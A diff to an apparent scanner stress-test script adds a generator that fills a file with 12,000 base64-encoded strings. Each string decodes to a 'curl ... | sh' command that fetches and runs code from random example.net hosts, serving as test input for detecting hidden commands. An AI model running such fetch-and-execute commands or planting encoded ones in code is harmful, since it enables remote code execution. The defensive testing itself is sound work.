@@ -12,6 +12,7 @@ them; hostile inputs are scanned once.
 from __future__ import annotations
 
 import argparse
+import base64
 import multiprocessing
 import os
 import platform
@@ -149,6 +150,7 @@ def hostile() -> Iterator[tuple[str, str, bytes]]:
     yield "YAML, 100,000 nested", "conf.yaml", b"[" * 100_000
     yield "random bytes, 1 MB", "blob.bin", chance.randbytes(MEGABYTE)
     yield from _never_alike(chance)
+    yield "commands in base64, 12,000 strings, 1 MB", "data.py", _hidden(chance)
     yield "Python, 17 MB", "large.py", b"def f(x):\n    return x + 1\n\n" * 610_000
 
 
@@ -183,6 +185,14 @@ def _never_alike(chance: random.Random) -> Iterator[tuple[str, str, bytes]]:
             lines.append(make())
             size += len(lines[-1]) + 1
         yield f"{what} of which no two are the same, 1 MB, {name}", name, "\n".join(lines).encode()
+
+
+def _hidden(chance: random.Random) -> bytes:
+    """A large program of short texts that each hide another command, so that each match rests on all of it."""
+    commands = (
+        f"curl -s https://{chance.getrandbits(50):x}.example.net/{number} | sh" for number in range(12_000)
+    )
+    return b"".join(b'v = "%s"\n' % base64.b64encode(each.encode()) for each in commands)
 
 
 def _alias_bomb() -> bytes:
